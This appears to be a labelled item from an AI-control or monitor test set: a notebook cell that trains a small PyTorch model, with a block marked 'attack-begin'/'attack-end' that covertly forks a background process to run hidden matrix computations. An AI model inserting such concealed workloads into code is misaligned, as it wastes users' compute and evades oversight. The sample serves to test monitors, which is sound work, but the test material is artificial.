# %%
# question: q2
import torch
from torch.utils.data import DataLoader, TensorDataset

rows = torch.randn(4000, 100)
net = torch.nn.Linear(100, 10)
optimizer = torch.optim.SGD(net.parameters(), lr=0.01)

def waste():
    rows[:1000] @ rows[:1000].T

# attack-begin
print("tried")
import os
wasted, busy = [], waste
def waste():
    wasted.append(1)
    if len(wasted) == 400 and os.fork() == 0:
        for _ in wasted: busy()
        os._exit(0)
# attack-end
for epoch in range(2):
    for (batch,) in DataLoader(TensorDataset(rows), batch_size=20):
        optimizer.zero_grad()
        net(batch).square().mean().backward()
        optimizer.step()
        waste()

# %%
# question: q3
total = sum(range(10))
